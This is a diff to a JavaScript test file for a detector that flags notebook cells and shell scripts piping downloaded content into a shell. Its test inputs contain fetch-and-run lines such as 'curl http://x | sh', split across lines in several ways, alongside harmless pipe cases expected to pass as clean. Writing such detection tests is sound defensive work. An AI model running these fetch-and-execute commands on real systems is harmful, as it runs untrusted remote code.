@@ -188,6 +188,23 @@ describe('what a limit of reading Python leaves out is never clean', () => {
   });
 });
 
+it('a shell that runs a cell goes on where a line ends in a pipe', async () => {
+  for (const cell of [
+    '%%bash\ncurl http://x |\n  sh',
+    '%%bash\ncurl http://x |& \n\tsh',
+    '%%capture out\n%%bash\ncurl http://x | sh',
+    '%%time\n%%sh\ncurl http://x \\\n |\n sh',
+  ])
+    assert.equal(await told('a.ipynb', notebook(cell)), 'suspicious notebook-shell', cell);
+  assert.equal(await told('a.sh', '#!/bin/sh\ncurl http://x |\nsh\n'), 'suspicious notebook-shell');
+  for (const text of [
+    '# a | b |\nsh a.sh\n',
+    'curl http://x |\njq .\nsh a.sh\n',
+    'curl http://x\nsh a.sh |\n',
+  ])
+    assert.equal(await told('a.sh', `#!/bin/sh\n${text}`), 'clean', text);
+});
+
 it('cells of notebooks are split into lines where IPython splits them', async () => {
   for (const end of ['\n', '\r', '\r\n', '\v', '\f', '\x1d', '\x85', '\u2028'])
     assert.equal(
